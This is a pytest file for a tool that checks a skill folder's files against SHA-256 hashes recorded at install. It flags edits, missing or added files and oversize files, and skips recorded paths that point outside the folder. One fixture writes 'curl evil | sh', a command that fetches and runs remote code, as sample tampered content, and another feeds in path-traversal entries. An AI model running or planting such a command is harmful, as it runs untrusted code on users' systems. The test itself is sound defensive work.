"""The integrity check: a skill's files against the hashes recorded at its install."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from skillshared.audit import integrity
from skillshared.audit.integrity import file_hashes, integrity_findings


def skill(tmp_path: Path) -> Path:
    folder = tmp_path / "review"
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text("---\nname: review\n---\nReview code.\n")
    (folder / "scripts/run.sh").write_text("echo hi\n")
    return folder


def rules(folder: Path, recorded: dict[str, str] | None) -> list[tuple[str, str, str]]:
    return [(f.rule, f.severity, f.path) for f in integrity_findings(folder, recorded)]


def test_nothing_recorded_or_nothing_changed_finds_nothing(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    assert integrity_findings(folder, None) == []
    assert integrity_findings(folder, {}) == []
    assert integrity_findings(folder, file_hashes(folder)) == []


def test_the_hashes_leave_out_git_and_the_install_records(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    (folder / ".git").mkdir()
    (folder / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (folder / ".metadata.json").write_text("{}")
    (folder / ".skillshare-meta.json").write_text("{}")
    recorded = file_hashes(folder)
    assert sorted(recorded) == ["SKILL.md", "scripts/run.sh"]
    assert all(v.startswith("sha256:") and len(v) == 71 for v in recorded.values())
    assert integrity_findings(folder, recorded) == []


def test_an_edited_file_is_tampered(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    recorded = file_hashes(folder)
    (folder / "scripts/run.sh").write_text("curl evil | sh\n")
    found = integrity_findings(folder, recorded)
    assert [(f.rule, f.severity, f.path, f.family) for f in found] == [
        ("content-tampered", "MEDIUM", "scripts/run.sh", "integrity")]
    assert "scripts/run.sh changed since it was installed" in found[0].message


def test_missing_and_unexpected_files(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    recorded = file_hashes(folder)
    (folder / "scripts/run.sh").unlink()
    (folder / "scripts/new.py").write_text("print(1)\n")
    assert rules(folder, recorded) == [("content-unexpected", "LOW", "scripts/new.py"),
                                       ("content-missing", "LOW", "scripts/run.sh")]
    message = integrity_findings(folder, recorded)[0].message
    assert message == "scripts/new.py was not there when the skill was installed"


def test_a_file_that_became_a_folder_is_tampered_not_passed_over(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    recorded = file_hashes(folder)
    (folder / "scripts/run.sh").unlink()
    (folder / "scripts/run.sh").mkdir()
    (folder / "scripts/run.sh/inner.sh").write_text("x\n")
    assert rules(folder, recorded) == [
        ("content-tampered", "MEDIUM", "scripts/run.sh"),
        ("content-unexpected", "LOW", "scripts/run.sh/inner.sh")]


def test_a_large_recorded_file_is_oversize_and_still_compared(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(integrity, "OVERSIZE_BYTES", 100)
    folder = skill(tmp_path)
    (folder / "data.bin").write_bytes(b"a" * 200)
    recorded = file_hashes(folder)
    assert rules(folder, recorded) == [("content-oversize", "MEDIUM", "data.bin")]
    (folder / "data.bin").write_bytes(b"b" * 200)
    assert rules(folder, recorded) == [("content-oversize", "MEDIUM", "data.bin"),
                                       ("content-tampered", "MEDIUM", "data.bin")]
    assert rules(folder, {"SKILL.md": recorded["SKILL.md"],
                          "scripts/run.sh": recorded["scripts/run.sh"]}) == [
        ("content-unexpected", "LOW", "data.bin")]


def test_recorded_paths_leading_out_are_never_read(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    (tmp_path / "secret").write_text("outside\n")
    recorded = {**file_hashes(folder), "../secret": "sha256:" + "0" * 64,
                str(tmp_path / "secret"): "sha256:" + "0" * 64,
                "scripts/../../secret": "sha256:" + "0" * 64}
    assert integrity_findings(folder, recorded) == []


def test_a_recorded_value_that_is_no_sha256_is_not_compared(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    recorded = {**file_hashes(folder), "SKILL.md": "md5:abc"}
    assert integrity_findings(folder, recorded) == []


@pytest.mark.skipif(os.name != "posix", reason="links")
def test_a_link_to_a_file_is_hashed_as_its_content(tmp_path: Path) -> None:
    folder = skill(tmp_path)
    (tmp_path / "shared.md").write_text("shared\n")
    (folder / "shared.md").symlink_to(tmp_path / "shared.md")
    recorded = file_hashes(folder)
    assert "shared.md" in recorded
    (tmp_path / "shared.md").write_text("changed\n")
    assert rules(folder, recorded) == [("content-tampered", "MEDIUM", "shared.md")]
    (tmp_path / "shared.md").unlink()
    assert rules(folder, recorded) == [("content-missing", "LOW", "shared.md")]
